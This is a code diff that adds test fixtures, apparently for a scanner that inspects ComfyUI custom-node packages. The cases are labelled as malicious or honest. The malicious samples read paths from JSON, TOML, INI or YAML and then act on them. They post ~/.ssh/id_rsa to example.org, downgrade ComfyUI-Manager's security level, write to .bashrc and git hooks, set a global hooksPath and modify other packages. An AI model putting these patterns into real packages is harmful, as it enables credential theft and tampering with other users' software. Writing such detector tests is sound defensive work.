@@ -81,3 +81,35 @@ export const HONEST_ASSETS: readonly NotToFind[] = [
   ['a hook of developers', { 'scripts/hooks.py': 'import subprocess\nsubprocess.run(["git", "config", "core.hooksPath", ".githooks"])\n' }],
   ['a reading of the state of Git', { 'a.py': 'import subprocess, os\nsubprocess.check_output(["git", "rev-parse", "HEAD"])\nopen(os.path.join(os.path.dirname(__file__), ".git", "HEAD")).read()\nopen("out/post.txt", "w").write("x")\n' }],
 ];
+
+const HERE = 'from pathlib import Path\nHERE = Path(__file__).parent\n';
+const RULES = JSON.stringify({
+  rules: [
+    { from: 'a.txt', to: 'cache/a.txt', lines: ['a'] },
+    { from: 'b.txt', to: '../ComfyUI-Manager/config.ini', lines: ['security_level = weak'] },
+  ],
+});
+const OTHER = JSON.stringify([{ path: 'out/a.py', text: 'x' }, { path: '../ComfyUI-Impact-Pack/__init__.py', text: 'import a' }]);
+
+/** What code does by rules that stand in files of data. */
+export const DATA_TO_FIND: readonly ToFind[] = [
+  [TOOLS, 'rules in JSON', { '__init__.py': `import json\n${HERE}for rule in json.loads((HERE / "rules.json").read_text())["rules"]:\n    (HERE / rule["to"]).write_text("\\n".join(rule["lines"]))\n`, 'rules.json': RULES }],
+  [TOOLS, 'rules of another file, by a function', { '__init__.py': 'from .tidy import run\nrun()\n', 'tidy.py': `import os, shutil\nfrom .load import rules\ndef apply(rule):\n    here = os.path.dirname(__file__)\n    shutil.copyfile(os.path.join(here, rule["from"]), os.path.join(here, rule["to"]))\ndef run():\n    for rule in rules():\n        apply(rule)\n`, 'load.py': 'import json, os\ndef rules():\n    with open(os.path.join(os.path.dirname(__file__), "rules.json")) as f:\n        return json.load(f).get("rules", [])\n', 'rules.json': RULES }],
+  [TOOLS, 'TOML', { '__init__.py': `import tomllib\n${HERE}with open(HERE / "tidy.toml", "rb") as f:\n    config = tomllib.load(f)\nfor step in config["step"]:\n    target = HERE.joinpath(step["target"])\n    with target.open("a") as out:\n        out.write(step["line"])\n`, 'tidy.toml': '[[step]]\ntarget = "a.txt"\nline = "a"\n[[step]]\ntarget = "../../.git/hooks/post-merge"\nline = "b"\n' }],
+  [TOOLS, 'settings', { '__init__.py': `import configparser\n${HERE}c = configparser.ConfigParser()\nc.read(HERE / "tidy.ini")\nopen(HERE / c["manager"]["file"], "a").write(c.get("manager", "line"))\n`, 'tidy.ini': '[manager]\nfile = ../ComfyUI-Manager/config.ini\nline = a\n' }],
+  [TOOLS, 'YAML', { '__init__.py': `import yaml\n${HERE}data = yaml.safe_load((HERE / "tidy.yaml").read_text())\nfor rule in data["rules"]:\n    Path(rule["to"]).expanduser().write_text(rule["text"])\n`, 'tidy.yaml': 'rules:\n  - to: ~/.cache/a\n    text: a\n  - to: ~/.config/pip/pip.conf\n    text: b\n' }],
+  ['starts_at_login', 'a path in parts', { '__init__.py': `import json, os\n${HERE}class Rule:\n    def __init__(self, place, text):\n        self.place = place\n        self.text = text\n    def write(self):\n        with open(os.path.join(os.path.expanduser("~"), *self.place), "a") as f:\n            f.write(self.text)\nfor row in json.load(open(HERE / "rows.json")):\n    Rule(**row).write()\n`, 'rows.json': '[{"place": [".bashrc"], "text": "a"}]' }],
+  ['writes_other_package', 'paths of other packages', { '__init__.py': `import json\nfrom dataclasses import dataclass\n${HERE}@dataclass\nclass Row:\n    path: str\n    text: str\n    def save(self):\n        (HERE / self.path).write_text(self.text)\nfor row in json.loads((HERE / "rows.json").read_text()):\n    Row(**row).save()\n`, 'rows.json': OTHER }],
+  ['writes_other_package', 'lines of a list', { '__init__.py': `${HERE}for line in (HERE / "files.txt").read_text().splitlines():\n    with open(HERE.parent / line, "a") as f:\n        f.write("x")\n`, 'files.txt': '../custom_nodes/ComfyUI-Impact-Pack/__init__.py\n' }],
+  ['sends_secrets', 'places of keys', { '__init__.py': `import json, os, requests\n${HERE}for place in json.loads((HERE / "places.json").read_text())["look"]:\n    p = os.path.expanduser(place)\n    requests.post("https://example.org", data=open(p).read())\n`, 'places.json': '{"look": ["~/.cache/a", "~/.ssh/id_rsa"]}' }],
+  [TOOLS, 'a command', { '__init__.py': `import json, subprocess\n${HERE}for args in json.loads((HERE / "steps.json").read_text())["steps"]:\n    subprocess.run(args)\n`, 'steps.json': '{"steps": [["git", "config", "--global", "core.hooksPath", "/tmp/h"]]}' }],
+  ['writes_other_package', 'where modules are', { '__init__.py': 'import sys\nfor module in list(sys.modules.values()):\n    place = getattr(module, "__file__", None)\n    if place and "custom_nodes" in place:\n        with open(place, "a") as f:\n            f.write("x")\n' }],
+  ['writes_other_package', 'folders that the host loaded', { '__init__.py': 'import os, nodes\nfor folder in nodes.LOADED_MODULE_DIRS.values():\n    with open(os.path.join(folder, "__init__.py"), "a") as f:\n        f.write("x")\n' }],
+  ['writes_other_package', 'the file of a class', { '__init__.py': 'import inspect, nodes\ncls = nodes.NODE_CLASS_MAPPINGS["FaceDetailer"]\nfrom pathlib import Path\np = Path(inspect.getsourcefile(cls))\np.write_text(p.read_text() + "x")\n' }],
+];
+
+export const HONEST_DATA: readonly NotToFind[] = [
+  ['rules for own files', { '__init__.py': `import json\n${HERE}for rule in json.loads((HERE / "rules.json").read_text())["rules"]:\n    (HERE / rule["to"]).write_text("\\n".join(rule["lines"]))\n`, 'rules.json': '{"about": "https://example.org/../a", "rules": [{"to": "cache/a.txt", "lines": []}, {"to": "../../output/a.txt", "lines": []}]}' }],
+  ['names of other packages', { '__init__.py': `import json\n${HERE}known = json.loads((HERE / "known.json").read_text())\nfor name, path in known.items():\n    print(name, (HERE.parent / path).exists())\n(HERE / "state.json").write_text(json.dumps(known))\n`, 'known.json': '{"Impact": "../ComfyUI-Impact-Pack/__init__.py"}' }],
+  ['own settings', { '__init__.py': `import configparser\n${HERE}c = configparser.ConfigParser()\nc.read(HERE / "config.ini")\nc["a"]["b"] = "1"\nwith open(HERE / "config.ini", "w") as f:\n    c.write(f)\n`, 'config.ini': '[a]\nfolder = ../../models\nb = 2\n' }],
+];
